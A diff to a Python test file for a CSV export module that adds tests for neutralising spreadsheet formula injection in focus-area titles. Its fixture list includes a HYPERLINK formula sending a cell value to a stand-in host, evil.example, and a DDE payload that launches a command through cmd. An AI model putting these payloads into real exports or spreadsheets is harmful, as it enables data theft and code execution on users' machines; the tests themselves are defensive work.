@@ -1,10 +1,13 @@
+import csv
+import dataclasses
+import io
 from pathlib import Path
 
 import pytest
 from openpyxl import Workbook
 
 from kldocs.errors import InputError
-from kldocs.networks.csvfile import lineup_csv, read_lineup, write_lineup
+from kldocs.networks.csvfile import lineup_csv, neutralised, read_lineup, restored, write_lineup
 
 DATA = Path(__file__).parents[1] / "data" / "networks"
 EDITED = DATA / "edited-cp1252.csv"
@@ -68,6 +71,56 @@ class DescribeRoundTrip:
             sheet.append([int(cells[0]), *cells[1:3], int(cells[3]), *(c or None for c in cells[4:])])
         book.save(tmp_path / "networks.xlsx")
         assert read(tmp_path / "networks.xlsx", example, program).assignment == lineup.assignment
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Klik")', "+45 børn i trivsel", "-10 % fravær",
+            "@SUM(A1:A9)", "'=allerede med apostrof", "=cmd|' /C calc'!A0"]
+
+
+def with_titles(lineup, program, titles):
+    """``lineup`` with its focus areas retitled, and the catalogue they come from."""
+    areas = {a.id: a.model_copy(update={"title": titles[i % len(titles)] + ("" if i < len(titles) else f" {i}")})
+             for i, a in enumerate(program.focus_areas.catalogue)}
+    networks = tuple(dataclasses.replace(n, focus_areas=tuple(areas[a.id] for a in n.focus_areas))
+                     for n in lineup.networks)
+    return dataclasses.replace(lineup, networks=networks), tuple(areas.values())
+
+
+class DescribeCsvInjection:
+    @pytest.mark.parametrize("text", ["=1+2", "+45", "-x", "@SUM(A1)", "\tx", "\rx", "'=x", "''@x"])
+    def it_puts_a_quote_before_what_excel_could_run_and_takes_it_off_again(self, text):
+        assert neutralised(text) == "'" + text
+        assert restored(neutralised(text)) == text
+
+    @pytest.mark.parametrize("cell", ["Odense", "'citat", "Lyngby-Taarbæk", "", 3, None, "a=b"])
+    def it_leaves_everything_else_alone(self, cell):
+        assert neutralised(cell) == cell
+        assert restored(cell) == cell
+
+    def it_writes_no_cell_excel_would_run(self, lineup, program):
+        hostile, _ = with_titles(lineup, program, FORMULAS)
+        rows = list(csv.reader(io.StringIO(lineup_csv(hostile, 5).decode("utf-8-sig")), delimiter=";"))
+        cells = [c for row in rows for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        written = {c for c in cells if c.startswith("'")}
+        used = {a.title for n in hostile.networks for a in n.focus_areas}
+        assert written == {"'" + t for t in used}
+
+    def it_reads_back_the_titles_it_neutralised(self, lineup, example, program, tmp_path):
+        hostile, catalogue = with_titles(lineup, program, FORMULAS)
+        path = write_lineup(hostile, tmp_path / "networks.csv")
+        back = read_lineup(path, example, program.networks, catalogue=catalogue)
+        assert [[a.title for a in n.focus_areas] for n in back] == [[a.title for a in n.focus_areas] for n in hostile]
+        assert back.assignment == hostile.assignment
+
+    def it_reads_back_a_copy_excel_saved_as_xlsx_with_the_quotes_as_text(self, lineup, example, program, tmp_path):
+        hostile, catalogue = with_titles(lineup, program, FORMULAS)
+        book = Workbook()
+        for row in csv.reader(io.StringIO(lineup_csv(hostile, 5).decode("utf-8-sig")), delimiter=";"):
+            book.active.append([int(c) if c.isdigit() else c or None for c in row])
+        book.save(tmp_path / "networks.xlsx")
+        back = read_lineup(tmp_path / "networks.xlsx", example, program.networks, catalogue=catalogue)
+        assert [n.focus_areas for n in back] == [n.focus_areas for n in hostile]
 
 
 class DescribeAHandEditedLineup:
